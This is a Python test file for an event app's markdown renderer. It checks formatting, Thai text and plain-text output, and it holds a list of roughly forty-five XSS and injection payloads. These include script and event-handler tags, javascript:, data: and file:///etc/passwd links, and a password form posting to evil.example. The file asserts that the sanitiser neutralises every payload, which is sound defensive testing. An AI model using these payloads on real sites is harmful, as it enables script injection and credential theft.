"""Written text: what it may become, and the ways it must not be misused."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from eventapp.core.markdown import LONGEST, plain, render

REL = 'rel="nofollow noopener noreferrer"'
TABLE = """<table>
<thead>
<tr>
<th>a</th>
<th>b</th>
</tr>
</thead>
<tbody>
<tr>
<td>1</td>
<td>2</td>
</tr>
</tbody>
</table>"""


@pytest.mark.parametrize(
    ("written", "html"),
    [
        ("", ""),
        ("one\ntwo", "<p>one<br>\ntwo</p>"),
        ("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>"),
        ("# One\n## Two", "<h3>One</h3>\n<h4>Two</h4>"),
        ("### Three\n#### Four", "<h5>Three</h5>\n<h5>Four</h5>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>"),
        (
            "[a](https://example.org/?x=1&y=2)",
            f'<p><a href="https://example.org/?x=1&amp;y=2" {REL}>a</a></p>',
        ),
        (
            "<mailto:suda@example.org>",
            f'<p><a href="mailto:suda@example.org" {REL}>mailto:suda@example.org</a></p>',
        ),
        (
            "[โทร](tel:+66812345678)",
            f'<p><a href="tel:+66812345678" {REL}>โทร</a></p>',
        ),
        (
            "| a | b |\n|---|--:|\n| 1 | 2 |",
            TABLE,
        ),
        ("จังหวัดลพบุรี", '<p><span class="nb">จังหวัดลพบุรี</span></p>'),
        ("a < b & c > d", "<p>a &lt; b &amp; c &gt; d</p>"),
    ],
)  # fmt: skip
def test_what_people_write(written: str, html: str) -> None:
    assert render(written) == html


ATTACKS = """<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg/onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<a href="javascript:alert(1)">x</a>
<body onload=alert(1)>
<style>*{background:url(//evil.example)}</style>
<span class="nb" onclick="alert(1)">x</span>
<math><mtext></p><style><!--</style><img src=x onerror=alert(1)>
<form action=//evil.example><input name=password><button>x</button></form>
<base href=//evil.example>
<meta http-equiv=refresh content="0;url=//evil.example">
<!--><script>alert(1)</script-->
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java\tscript:alert(1))
[x](&#106;avascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/png;base64,AAAA)
[x](file:///etc/passwd)
[x](//evil.example)
[x](/organizer/)
[x](\\\\evil.example)
[x](ftp://evil.example)
[x](blob:https://evil.example/1)
[x](https://example.org" onclick="alert(1))
[x](<https://example.org/ onclick=alert(1)>)
[x](https://example.org "t\\" onmouseover=\\"alert(1)")
<javascript:alert(1)>
<data:text/html,x>
![x](https://evil.example/pixel.png)
![x](javascript:alert(1))
[![x](https://evil.example/p.png)](https://example.org)
[ref]: javascript:alert(1)
`<script>alert(1)</script>`
```html
<script>alert(1)</script>
| <script>alert(1)</script> | x |
**<img src=x onerror=alert(1)>**
&lt;script&gt;alert(1)&lt;/script&gt;
<scr<script>ipt>alert(1)</script>
%3Cscript%3Ealert(1)%3C/script%3E
<a href="https://example.org" target="_blank" style="position:fixed">x</a>
<p id="x" class="y" style="color:red">x</p>""".split("\n")

ALLOWED = {
    "p", "br", "strong", "em", "s", "ul", "ol", "li", "a", "blockquote", "code", "pre", "hr",
    "h3", "h4", "h5", "table", "thead", "tbody", "tr", "th", "td", "span",
}  # fmt: skip


class Browser(HTMLParser):
    """Collects what a browser would see in a piece of HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


def dangers(html: str) -> list[tuple[str, dict[str, str | None]]]:
    browser = Browser()
    browser.feed(html)
    return [(tag, attrs) for tag, attrs in browser.seen if not harmless(tag, attrs)]


def harmless(tag: str, attrs: dict[str, str | None]) -> bool:
    if tag == "a":
        target = attrs.get("href") or "https://"
        rel = attrs.get("rel") == "nofollow noopener noreferrer"
        known = re.match(r"(https?://|mailto:|tel:)", target)
        return rel and known is not None and set(attrs) <= {"href", "rel"}
    if tag == "span":
        return attrs == {"class": "nb"}
    if tag == "ol":
        return set(attrs) <= {"start"}
    return tag in ALLOWED and not attrs


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("shape", ["{}", "text {} text", "- {}", "> {}", "# {}", "[a]: {}\n\n[a]"])
def test_no_attack_survives(attack: str, shape: str) -> None:
    assert dangers(render(shape.format(attack))) == []


def test_the_detector_of_attacks_detects() -> None:
    assert [bool(dangers(attack)) for attack in ATTACKS[:13]] == [True] * 12 + [False]
    assert dangers('<a href="javascript:alert(1)" rel="nofollow noopener noreferrer">x</a>')


@given(st.text(alphabet="<>&\"'()[]!*_`#|-\\/:;=. \nascriptjvhref\u0e01", max_size=80))
def test_no_text_becomes_dangerous(text: str) -> None:
    assert dangers(render(text)) == []


@pytest.mark.parametrize(
    ("written", "words"),
    [
        ("", ""),
        ("# หัวข้อ\n\nย่อหน้า **หนา**\nบรรทัดใหม่", "หัวข้อ\n\nย่อหน้า หนา\nบรรทัดใหม่"),
        ("- a\n- b\n  - c\n\nd", "- a\n- b\n  - c\n\nd"),
        ("2. a\n3. b", "2. a\n3. b"),
        ("[เว็บ](https://example.org)", "เว็บ (https://example.org)"),
        ("<https://example.org>", "https://example.org"),
        ("<suda@example.org>", "suda@example.org"),
        ("a\n\n```\ncode\n```\n\nb", "a\n\ncode\n\nb"),
        ("> quoted\n\nx", "quoted\n\nx"),
        ("<script>x</script>", "<script>x</script>"),
        ("| a | b |\n|---|---|\n| 1 | 2 |\n\nz", "a | b\n1 | 2\n\nz"),
        ("[a](https://a.example) [b](tel:1)", "a (https://a.example) b (tel:1)"),
    ],
)  # fmt: skip
def test_the_same_words_as_plain_text(written: str, words: str) -> None:
    assert plain(written) == words


def test_a_text_beyond_all_measure_is_shown_as_typed() -> None:
    text = "<b>" + "ก" * LONGEST

    assert render(text) == f"<pre>&lt;b&gt;{'ก' * LONGEST}</pre>"
    assert plain(text) == text
